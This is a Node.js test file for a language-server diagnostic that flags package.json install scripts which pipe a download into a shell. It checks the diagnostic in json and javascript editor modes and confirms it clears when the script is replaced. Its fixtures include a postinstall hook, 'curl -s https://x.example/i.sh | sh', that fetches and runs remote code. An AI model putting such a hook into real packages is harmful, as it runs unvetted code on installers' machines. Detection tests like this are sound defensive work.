// package.json open in an editor: install scripts that pipe downloads into shells are diagnosed on
// their line, whether the editor says "json" (VS Code, Neovim, Helix, Emacs 29) or "javascript"
// (Emacs 28's js-mode); native builds are not, and editing the script away clears the diagnostic.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const { startSession } = require('./lsp-harness');

const URI = 'file:///work/app/node_modules/helper/package.json';
const BAD = '{\n  "name": "helper",\n  "scripts": {\n    "test": "node --test",\n    "postinstall": "curl -s https://x.example/i.sh | sh"\n  }\n}\n';
const GOOD = '{\n  "name": "helper",\n  "scripts": {\n    "test": "node --test",\n    "install": "node-gyp rebuild"\n  }\n}\n';

for (const languageId of ['json', 'javascript']) {
  test(`a package.json opened as ${languageId} gets an install-script diagnostic on the postinstall line`, async () => {
    const s = await startSession();
    await s.open(URI, BAD, { languageId });
    const diagnostics = await s.diagnostics(URI, 1);
    assert.equal(diagnostics.length, 1, JSON.stringify(diagnostics));
    const d = diagnostics[0];
    assert.equal(d.code, 'install-script');
    assert.equal(d.range.start.line, 4);
    assert.match(d.message, /pipes a download into a shell/);
    assert.equal(d.severity, 1);
    await s.stop();
  });
}

test('replacing the script with a native build clears the diagnostic; other JSON files are left alone', async () => {
  const s = await startSession();
  await s.open(URI, BAD, { languageId: 'json' });
  assert.equal((await s.diagnostics(URI, 1)).length, 1);
  await s.replace(URI, 2, BAD, GOOD);
  assert.deepEqual(await s.diagnostics(URI, 2), []);
  await s.open('file:///work/app/tsconfig.json', '{ "scripts": { "postinstall": "curl x | sh" } }', { languageId: 'json' });
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(s.publishedFor('file:///work/app/tsconfig.json').flatMap((p) => p.diagnostics), []);
  await s.stop();
});

test('a half-typed package.json does not disturb the session', async () => {
  const s = await startSession();
  await s.open(URI, '{ "scripts": { "postinst', { languageId: 'json' });
  assert.deepEqual(await s.diagnostics(URI, 1), []);
  await s.stop();
});
